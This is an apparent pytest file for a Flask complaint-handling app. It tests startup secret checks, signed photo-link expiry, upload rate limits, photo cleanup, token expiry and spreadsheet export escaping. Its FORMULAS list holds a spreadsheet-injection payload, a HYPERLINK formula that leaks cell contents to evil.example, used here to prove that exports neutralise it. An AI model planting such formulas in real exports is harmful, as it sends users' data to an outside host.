"""Safe by default: what production refuses to start without, photo links on
the one clock, the upload limit, unattached photos removed, exports that
write user text as text."""

from __future__ import annotations

import io
import subprocess
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from app.clock import Clock
from app.models import Photo
from app.settings import Settings
from app.worker import Jobs
from handlers.cases.photos import storage_keys
from tests.e2e.procs import ROOT
from tests.helpers import file_case, jpeg_bytes, login, make_staff, upload_photo

STRONG = "s" * 32

# -- secrets and modes ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("env", "named"),
    [
        ({}, "SECRET_KEY"),
        ({"WECHAT_TOKEN": "t"}, "SECRET_KEY"),
        ({"SECRET_KEY": "x" * 31, "WECHAT_TOKEN": "t"}, "SECRET_KEY"),
        ({"SECRET_KEY": STRONG}, "WECHAT_TOKEN"),
        ({"SECRET_KEY": STRONG, "WECHAT_TOKEN": "t", "APP_ENV": "staging"}, "APP_ENV"),
    ],
)
def test_production_refuses_to_start_naming_the_variable(env: dict[str, str], named: str) -> None:
    from app import create_app

    with pytest.raises(SystemExit) as stopped:
        create_app(Settings.from_env({"DATABASE_URL": "sqlite://"} | env))
    assert named in str(stopped.value)


def test_production_starts_with_a_strong_key_and_a_push_token() -> None:
    from app import create_app

    app = create_app(
        Settings.from_env({"DATABASE_URL": "sqlite://", "SECRET_KEY": STRONG, "WECHAT_TOKEN": "t"})
    )
    assert app.config["SECRET_KEY"] == STRONG
    assert app.extensions["settings"].production


def test_development_allows_defaults_says_so_and_every_process_shares_the_key(
    caplog: pytest.LogCaptureFixture, database_url: str
) -> None:
    """No random key per process: under gunicorn -w 2 a token one worker
    issued is good at the other (the issue saw 22 of 30 calls refused)."""
    from app import create_app
    from app.api.security import issue_token

    env = {"APP_ENV": "development", "DATABASE_URL": database_url}
    first, second = create_app(Settings.from_env(env)), create_app(Settings.from_env(env))
    assert "SECRET_KEY" in caplog.text and "WECHAT_TOKEN" in caplog.text
    assert first.config["SECRET_KEY"] == second.config["SECRET_KEY"]
    with first.test_request_context():
        token = issue_token(424242)
    answer = second.test_client().get("/api/v1/cases/mine", headers={"Authorization": f"Bearer {token}"})
    assert (
        answer.status_code == 401 and answer.get_json()["error"]["code"] == "bad_token"
    )  # known key, no such user
    assert answer.get_json()["error"]["message"] == "账号不存在，请重新登录"
    for application in (first, second):
        application.extensions["services"].close()


def test_the_worker_refuses_to_start_in_production_without_a_key(tmp_path: Path) -> None:
    env = {"PATH": "/usr/bin:/bin", "DATABASE_URL": f"sqlite:///{tmp_path / 'w.db'}", "WECHAT_TOKEN": "t"}
    run = subprocess.run(
        [sys.executable, "-m", "flask", "--app", "app", "worker", "--once"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode != 0
    assert "SECRET_KEY" in run.stderr and "APP_ENV=production refuses to start" in run.stderr


# -- photo links on the one clock -------------------------------------------------------


def test_a_photo_link_stops_opening_after_two_days_of_clock_offset(client: Any, services: Any) -> None:
    resident = login(client, "link-clock")
    photo = upload_photo(client, resident)
    case = file_case(client, resident, photo_ids=[photo["id"]])
    assert client.get(photo["url"]).status_code == 200
    services.clock = Clock(offset_seconds=2 * 86400)
    stale = client.get(photo["url"])
    assert stale.status_code == 404 and stale.get_json()["error"]["code"] == "photo_link_expired"
    # A link handed out now, on the shifted clock, opens.
    fresh = client.get(f"/api/v1/cases/{case['id']}", headers=resident).get_json()["photos"][0]["url"]
    assert fresh != photo["url"] and client.get(fresh).status_code == 200


def test_a_signed_link_cannot_be_stretched_or_widened(client: Any) -> None:
    photo = upload_photo(client, login(client, "link-forge"))
    base, query = photo["url"].split("?")
    params = dict(p.split("=") for p in query.split("&"))
    later = str(int(params["e"]) + 86400)
    assert client.get(f"{base}?e={later}&s={params['s']}").status_code == 404
    assert client.get(f"{base}?e={params['e']}&s={params['s']}&r=1").status_code == 404
    assert client.get(f"{base}/thumb?e={params['e']}&s={params['s']}").status_code == 404


# -- the upload limit --------------------------------------------------------------------


def _upload(client: Any, headers: dict[str, str], n: int) -> Any:
    data = {"file": (io.BytesIO(jpeg_bytes((32, 32), color=(n % 255, 10, 10))), "p.jpg")}
    return client.post("/api/v1/photos", data=data, headers=headers, content_type="multipart/form-data")


def test_thirty_uploads_a_minute_per_user_then_a_429_in_chinese(client: Any, services: Any) -> None:
    busy, other = login(client, "limit-busy"), login(client, "limit-other")
    assert all(_upload(client, busy, n).status_code == 201 for n in range(30))
    refused = _upload(client, busy, 31)
    assert refused.status_code == 429
    error = refused.get_json()["error"]
    assert error["code"] == "rate_limited" and "每分钟最多 30 张" in error["message"]
    assert int(refused.headers["Retry-After"]) > 0
    assert _upload(client, other, 1).status_code == 201  # per user, not for everyone
    assert client.get("/api/v1/categories").status_code == 200  # other endpoints are not limited
    # The published document says an upload may answer it (clients and schemathesis read it).
    upload = client.get("/api/v1/openapi.json").get_json()["paths"]["/api/v1/photos"]["post"]
    assert "429" in upload["responses"]


def test_with_redis_the_count_is_shared_by_every_process(settings: Any, client: Any) -> None:
    import redis

    from app import create_app
    from handlers.seed import seed_reference

    redis.Redis.from_url("redis://127.0.0.1:6379/13").flushdb()
    with_redis = settings.but(redis_url="redis://127.0.0.1:6379/13")
    first = create_app(with_redis)
    seed_reference(first.extensions["services"].context())
    headers = login(first.test_client(), "limit-shared")
    assert all(_upload(first.test_client(), headers, n).status_code == 201 for n in range(30))
    second = create_app(with_redis)  # another process: its own memory, the same Redis
    assert _upload(second.test_client(), headers, 31).status_code == 429
    for application in (first, second):
        application.extensions["services"].close()


# -- unattached photos -------------------------------------------------------------------


def _rows(services: Any) -> set[str]:
    with services.db.uow() as uow:
        return set(uow.session.scalars(Photo.__table__.select().with_only_columns(Photo.id)))


def test_photos_never_attached_are_removed_after_a_day_rows_and_files(
    client: Any, services: Any, settings: Any
) -> None:
    resident = login(client, "tidy")
    same = jpeg_bytes(color=(200, 30, 30))
    kept = upload_photo(client, resident, same)
    file_case(client, resident, photo_ids=[kept["id"]])
    twin = upload_photo(client, resident, same)  # the same bytes, never attached
    lonely = upload_photo(client, resident, jpeg_bytes(color=(30, 200, 30)))
    folder = Path(settings.photo_dir)
    lonely_files = [folder / key for key in storage_keys(lonely["sha256"])]
    assert all(f.exists() for f in lonely_files)
    services.clock = Clock(offset_seconds=23 * 3600)
    jobs = Jobs(services)
    jobs.tidy_photos()
    assert _rows(services) == {kept["id"], twin["id"], lonely["id"]}  # not yet a day
    services.clock = Clock(offset_seconds=int(timedelta(hours=24, minutes=1).total_seconds()))
    fresh = upload_photo(client, resident, jpeg_bytes(color=(30, 30, 200)))
    jobs.tidy_photos()
    assert _rows(services) == {kept["id"], fresh["id"]}
    assert not any(f.exists() for f in lonely_files)
    assert all((folder / key).exists() for key in storage_keys(kept["sha256"]))  # shared with the twin
    office = make_staff(client, services, "住建局", "supervisor", "tidy-office")
    assert client.get(f"/api/v1/photos/{kept['id']}", headers=office).status_code == 200


# -- exports -----------------------------------------------------------------------------

# What the issue found live in overdue.xlsx, and its cousins (a tab or a carriage
# return cannot start a filed text: the API strips them; the helper test has them).
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "+1+1", "-2+3", "@SUM(1)"]


def test_exports_write_what_users_wrote_as_text_never_as_a_formula(client: Any, services: Any) -> None:
    resident = login(client, "xlsx")
    office = make_staff(client, services, "住建局", "supervisor", "xlsx-office")
    for text in FORMULAS:
        file_case(client, resident, description=text + " 小区遛狗不拴绳", location_text=text)
    services.clock = Clock(offset_seconds=40 * 86400)  # every case overdue
    answer = client.get("/api/v1/supervision/overdue.xlsx", headers=office)
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    written = [c for c in cells if c.value.startswith(tuple(f[:1] for f in FORMULAS))]
    assert len(written) == len(FORMULAS)
    assert all(c.data_type == "s" and c.quotePrefix for c in written)
    assert {c.value.split(" ")[0] for c in written} >= {f.split(" ")[0] for f in FORMULAS[1:4]}


def test_the_sheet_helper_keeps_numbers_numbers() -> None:
    from app.xlsx import workbook

    data = workbook(
        [("表", ["a", "b", "c"], [[-3, "-3", "=1+1"], [1.5, "普通文字", None], ["\tx", "\rx", "@x"]])]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    (a, b, c), (d, e, f), texts = sheet.iter_rows(min_row=2)
    assert (a.value, a.data_type) == (-3, "n") and (d.value, d.data_type) == (1.5, "n")
    assert (b.value, b.data_type, c.value, c.data_type) == ("-3", "s", "=1+1", "s")
    assert b.quotePrefix and c.quotePrefix
    assert e.value == "普通文字" and not e.quotePrefix and f.value is None
    # (XML reads a carriage return back as a line feed.)
    assert [(t.value, t.data_type, t.quotePrefix) for t in texts] == [
        ("\tx", "s", True),
        ("\nx", "s", True),
        ("@x", "s", True),
    ]


def test_flask_limiters_request_context_is_made_only_where_a_limit_may_apply(
    client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from flask_limiter._extension import LimiterContext

    resets: list[object] = []
    plain = LimiterContext.reset
    monkeypatch.setattr(LimiterContext, "reset", lambda self: (resets.append(self), plain(self))[1])
    assert client.get("/api/v1/categories").status_code == 200
    assert resets == []
    assert _upload(client, login(client, "limit-context"), 1).status_code == 201
    assert len(resets) == 1  # the limited upload's context, reset when it ended


def test_a_token_past_its_age_is_refused_whether_or_not_it_was_seen_before(
    client: Any, services: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import time

    from app.api import security

    max_age = services.settings.token_max_age_seconds
    seen = login(client, "token-age-seen")
    unseen = login(client, "token-age-unseen")
    assert client.get("/api/v1/cases/mine", headers=seen).status_code == 200  # verified, kept
    now = time.time()
    monkeypatch.setattr(security.time, "time", lambda: now + max_age + 5)
    monkeypatch.setattr("itsdangerous.timed.time.time", lambda: now + max_age + 5)
    for headers in (seen, unseen):
        refused = client.get("/api/v1/cases/mine", headers=headers)
        assert refused.status_code == 401 and refused.get_json()["error"]["code"] == "token_expired"
    monkeypatch.setattr(security.time, "time", lambda: now + 60)
    monkeypatch.setattr("itsdangerous.timed.time.time", lambda: now + 60)
    assert client.get("/api/v1/cases/mine", headers=seen).status_code == 200
    forged = {"Authorization": seen["Authorization"][:-2] + "xx"}
    assert client.get("/api/v1/cases/mine", headers=forged).get_json()["error"]["code"] == "bad_token"
